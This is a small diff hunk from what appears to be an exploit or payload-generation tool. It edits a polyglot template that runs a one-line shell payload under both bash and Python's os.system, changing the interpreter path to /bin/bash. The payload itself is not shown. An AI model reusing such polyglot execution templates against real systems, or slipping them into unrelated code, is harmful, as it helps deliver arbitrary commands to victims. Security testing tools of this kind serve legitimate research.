@@ -20,7 +20,7 @@ LINE = (
 """The payload as one line for a shell; started by itself it does nothing."""
 
 PAYLOAD = f"""#!/bin/bash
-"exec" "bash" "-c" "{LINE}"
+"exec" "/bin/bash" "-c" "{LINE}"
 __import__("os").system("{LINE}")
 """
 """The payload as a program, for bash and for Python."""
